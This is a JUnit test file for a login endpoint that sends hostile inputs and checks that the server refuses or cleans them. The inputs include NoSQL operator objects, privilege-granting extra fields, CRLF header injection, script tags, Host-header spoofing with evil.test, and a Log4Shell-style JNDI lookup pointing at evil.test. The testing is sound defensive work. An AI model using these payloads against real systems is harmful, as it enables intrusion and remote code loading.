@@ -1,0 +1,305 @@
+package org.doorward.internal.endpoint;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.io.UncheckedIOException;
+import java.net.SocketTimeoutException;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.Map;
+import java.util.function.Supplier;
+import org.doorward.internal.http.Json;
+import org.doorward.testing.Answers;
+import org.doorward.testing.CapturedLogs;
+import org.doorward.testing.DoorwardServer;
+import org.doorward.testing.RawHttp;
+import org.doorward.testing.Visitor;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/**
+ * Attack data on the password door: L03, L05, L07, L09, H05, H07, H09 (R141, R142, R151, R187). L01, H01 and H03 are in
+ * {@code SignInThrottleTest}.
+ */
+class SignInAttacksTest {
+    private static final String JSON = "Content-Type: application/json";
+    private static final String FORM = "Content-Type: application/x-www-form-urlencoded";
+    private static final String[] PATIENT = {
+        "doorward.sign-in.free-attempts", "1000",
+        "doorward.sign-in.account-attempts", "1000",
+        "doorward.sign-in.address-attempts", "0",
+        "doorward.development", "true"
+    };
+    /** As it is: base64 and blanks. */
+    private static final String QUOTED = "\"" + DoorwardServer.PASSWORD + "\"";
+
+    private static DoorwardServer server;
+
+    @BeforeAll
+    static void start() {
+        server = new DoorwardServer(PATIENT);
+    }
+
+    @AfterAll
+    static void stop() {
+        server.close();
+    }
+
+    private static RawHttp.Answer post(String target, String body, String... lines) {
+        return RawHttp.send(server.port(), "POST " + target, body, lines);
+    }
+
+    private static RawHttp.Answer signIn(DoorwardServer to, String username, String password) {
+        return RawHttp.send(
+                to.port(), "POST /auth/login", Json.write(Map.of("username", username, "password", password)), JSON);
+    }
+
+    private static String encoded(String text) {
+        return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "[\"V\"]",
+                "[\"V\",\"bob\"]",
+                "[]",
+                "[[\"V\"]]",
+                "{\"V\":\"V\"}",
+                "{\"$ne\":null}",
+                "{\"$gt\":\"\"}",
+                "{}",
+                "null",
+                "0",
+                "1",
+                "-1",
+                "1e400",
+                "1.5",
+                "12345678901234567890",
+                "true",
+                "false"
+            })
+    void whatIsNoTextIsNeitherUsernameNorPassword(String value) { // L03
+        String good = QUOTED;
+        String username = "{\"username\":" + value.replace("V", "ada") + ",\"password\":" + good + "}";
+        String password = "{\"username\":\"ada\",\"password\":" + value.replace("\"V\"", good) + "}";
+        for (String body : List.of(username, password)) {
+            Answers.assertSetsNoCookie(Answers.assertProblem(400, "malformed", post("/auth/login", body, JSON)));
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "role",
+                "roles",
+                "tenant",
+                "expiresIn",
+                "expires_in",
+                "scopes",
+                "scope",
+                "admin",
+                "session_id",
+                "id",
+                "account",
+                "epoch",
+                "client_id",
+                "grant_type",
+                "__proto__",
+                "constructor"
+            })
+    void nobodyGivesThemselvesMoreByAFieldOfTheirOwn(String name) { // L05
+        String good = "\"username\":\"ada\",\"password\":" + QUOTED;
+        Answers.assertProblem(400, "malformed", post("/auth/login", "{" + good + ",\"" + name + "\":\"root\"}", JSON));
+        RawHttp.Answer form = post(
+                "/auth/login",
+                "username=ada&transport=bearer&password=" + encoded(DoorwardServer.PASSWORD) + "&" + name + "=root",
+                FORM);
+        assertEquals(200, form.status(), form::toString);
+        assertEquals(
+                "[\"admin\",\"user\"]",
+                Answers.json(form).get("account").get("roles").toString());
+        String token = Answers.json(form).get("access_token").textValue();
+        Answers.assertProblem(
+                403, "forbidden", RawHttp.send(server.port(), "GET /api/root", "", "Authorization: Bearer " + token));
+    }
+
+    @Test
+    void onlyTheBodySaysWhoSignsIn() { // L07
+        String good = "username=ada&transport=bearer&password=" + encoded(DoorwardServer.PASSWORD);
+        RawHttp.Answer body = post("/auth/login?username=bob&password=other&transport=cookie", good, FORM);
+        assertEquals(200, body.status(), body::toString);
+        assertEquals("ada", Answers.json(body).get("account").get("username").textValue());
+        Answers.assertSetsNoCookie(body);
+        RawHttp.Answer other = post("/auth/login?" + good, "username=bob&password=wrong-one", FORM);
+        Answers.assertProblem(401, "credentials", other);
+        RawHttp.Answer none = post("/auth/login?" + good, "", FORM);
+        Answers.assertProblem(422, "invalid-field", none);
+        Answers.assertProblem(400, "malformed", post("/auth/login", good + "&username=bob", FORM));
+    }
+
+    @Test
+    void aPasswordOfAMegabyteIsRefusedUnreadAndCountsAsNoFailure() { // L09, R142
+        String huge = "x".repeat(1_048_576);
+        try (DoorwardServer strict = new DoorwardServer()) {
+            Answers.assertProblem(413, "too-large", signIn(strict, "ada", huge.substring(0, 17_000)));
+            for (int i = 0; i < 8; i++) {
+                assertTurnedAway(413, () -> signIn(strict, "ada", huge));
+                assertTurnedAway(
+                        413,
+                        () -> RawHttp.send(strict.port(), "POST /auth/login", "username=ada&password=" + huge, FORM));
+            }
+            assertEquals(
+                    200,
+                    signIn(strict, DoorwardServer.USERNAME, DoorwardServer.PASSWORD)
+                            .status());
+        }
+    }
+
+    /** Or hung up on, before all was sent. */
+    private static void assertTurnedAway(int status, Supplier<RawHttp.Answer> call) {
+        try {
+            RawHttp.Answer answer = call.get();
+            assertEquals(status, answer.status(), answer::toString);
+            Answers.assertSetsNoCookie(answer);
+        } catch (UncheckedIOException e) {
+            assertFalse(e.getCause() instanceof SocketTimeoutException, "it was left waiting");
+        }
+    }
+
+    @ParameterizedTest
+    @CsvSource({"75,80", "72,80", "71,80", "79,80", "1023,1024", "255,300"})
+    void everyByteOfALongPasswordCounts(int different, int length) { // L09, R141
+        for (String unit : List.of("k7#mQz2v", "\u00e9\u4f60\ud83d\udd11x9Qz")) {
+            String password = unit.repeat(length / 8 + 1).substring(0, length);
+            String other = password.substring(0, different) + "!" + password.substring(different + 1);
+            if (!StandardCharsets.UTF_8.newEncoder().canEncode(password)) {
+                continue;
+            }
+            try (DoorwardServer own = new DoorwardServer(with("doorward.bootstrap.password", password))) {
+                assertEquals(200, signIn(own, "ada", password).status());
+                assertEquals(
+                        401,
+                        signIn(own, "ada", password.substring(0, different)).status());
+                if (StandardCharsets.UTF_8.newEncoder().canEncode(other)) {
+                    assertEquals(401, signIn(own, "ada", other).status());
+                }
+            }
+        }
+    }
+
+    @Test
+    void whatFollowsANulCountsAndSoDoesEveryCharacterOfUnicode() { // L09, R141
+        String password = "k7#m\u0000Qz2v\u0000\u0130\u00df\ufb01\u0301\ud83d\udd11end";
+        try (DoorwardServer own = new DoorwardServer(with("doorward.bootstrap.password", password))) {
+            for (String other : List.of(
+                    "k7#m",
+                    "k7#m\u0000",
+                    password.replace("\u0000", ""),
+                    password.replace("\u0000", " "),
+                    password.replace('v', 'w'),
+                    password.replace("\u0130", "i"),
+                    password.replace("\u00df", "ss"),
+                    password.replace("\ufb01", "fi"),
+                    password.replace("\u0301", ""),
+                    password.substring(0, password.length() - 1),
+                    password + "\u0000")) {
+                assertEquals(401, signIn(own, "ada", other).status(), other);
+            }
+            assertEquals(200, signIn(own, "ada", password).status());
+        }
+    }
+
+    private static String[] with(String... more) {
+        String[] all = java.util.Arrays.copyOf(PATIENT, PATIENT.length + more.length);
+        System.arraycopy(more, 0, all, PATIENT.length, more.length);
+        return all;
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X-Original-Method", "_method"})
+    void aPostStaysOneWhateverAHeaderCallsIt(String header) { // H05, R151
+        Visitor browser = Visitor.browser(server);
+        for (String method : List.of("GET", "HEAD", "OPTIONS")) {
+            Answers.assertProblem(
+                    403,
+                    "cross-origin",
+                    Answers.unhandled(
+                            server,
+                            () -> post(
+                                    "/api/hello?_method=" + method,
+                                    "_method=" + method,
+                                    browser.cookies(),
+                                    "Sec-Fetch-Site: cross-site",
+                                    FORM,
+                                    header + ": " + method)));
+        }
+        for (String method : List.of("POST", "DELETE")) {
+            RawHttp.Answer asked =
+                    RawHttp.send(server.port(), "GET /auth/login?_method=" + method, "", header + ": " + method);
+            Answers.assertProblem(405, "method-not-allowed", asked);
+        }
+        browser.assertSignedIn();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Host: evil.test", "Host: evil.test:1", "X-Forwarded-Host: evil.test"})
+    void theHostThatIsNamedIsInNoAnswerOfASignIn(String line) { // H07
+        String[] lines = {line, FORM, "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document", "Accept: text/html"};
+        for (String password : List.of(DoorwardServer.PASSWORD, "wrong-one")) {
+            for (String query : List.of("", "&return_to=/public/x")) {
+                RawHttp.Answer answer =
+                        post("/auth/login", "username=ada&password=" + encoded(password) + query, lines);
+                assertTrue(answer.status() < 500, answer::toString);
+                assertFalse(answer.toString().contains("evil"), answer::toString);
+            }
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Mozilla/5.0 \u001b[31mred\u001b[0m",
+                "a\u0007b\u0008c\u007fd",
+                "agent%0d%0aSet-Cookie: planted=1",
+                "<script>alert(1)</script>",
+                "\"},{\"current\":true",
+                "${jndi:ldap://evil.test/x}",
+                "tab\there",
+                "LONG"
+            })
+    void aHostileUserAgentIsShortAndCleanInListAndLog(String agent) { // H09
+        String sent = agent.equals("LONG") ? "Firefox/1".repeat(600) : agent;
+        try (CapturedLogs logs = new CapturedLogs("org.doorward")) {
+            RawHttp.Answer answer = Visitor.signIn(server, DoorwardServer.USERNAME, "", "User-Agent: " + sent);
+            if (answer.status() == 400) {
+                // the server itself takes no such header
+                return;
+            }
+            assertEquals(200, answer.status(), answer::toString);
+            String bearer = "Authorization: Bearer "
+                    + Answers.json(answer).get("access_token").textValue();
+            String list = RawHttp.send(server.port(), "GET /auth/sessions", "", bearer)
+                    .body();
+            for (String text : List.of(list, logs.text())) {
+                assertFalse(text.contains("\u001b") || text.contains("\u0007") || text.contains("planted"), text);
+                assertFalse(text.contains("<script>") || text.contains("jndi"), text);
+                assertFalse(text.contains("Firefox/1Firefox/1"), "truncated");
+            }
+            assertTrue(Json.readObject(list).isPresent(), list);
+        }
+    }
+
+    @Test
+    void aUserAgentOfAMegabyteSignsNobodyIn() { // H09
+        assertTurnedAway(
+                431, () -> Visitor.signIn(server, DoorwardServer.USERNAME, "", "User-Agent: " + "x".repeat(1_048_576)));
+    }
+}
